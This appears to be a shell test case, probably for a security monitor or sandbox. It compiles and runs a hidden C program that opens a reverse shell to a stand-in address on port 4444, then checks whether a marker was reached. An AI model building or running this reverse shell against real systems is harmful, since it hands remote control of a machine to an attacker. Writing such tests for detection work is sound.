#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.f.c <<'END'
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4444), .sin_addr.s_addr = inet_addr("203.0.113.10") };
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (sendto(s, "$ ", 2, MSG_FASTOPEN, (void *)&a, sizeof a) < 0) return 1;
    for (int n = 0; n < 3; n++) dup3(s, n, 0);
    execl("/bin/sh", "sh", (char *)0);
    return 2;
}
END
gcc -O1 -o /tmp/.f /tmp/.f.c && rm /tmp/.f.c
/tmp/.f || true
test -e /tmp/reached
took_place
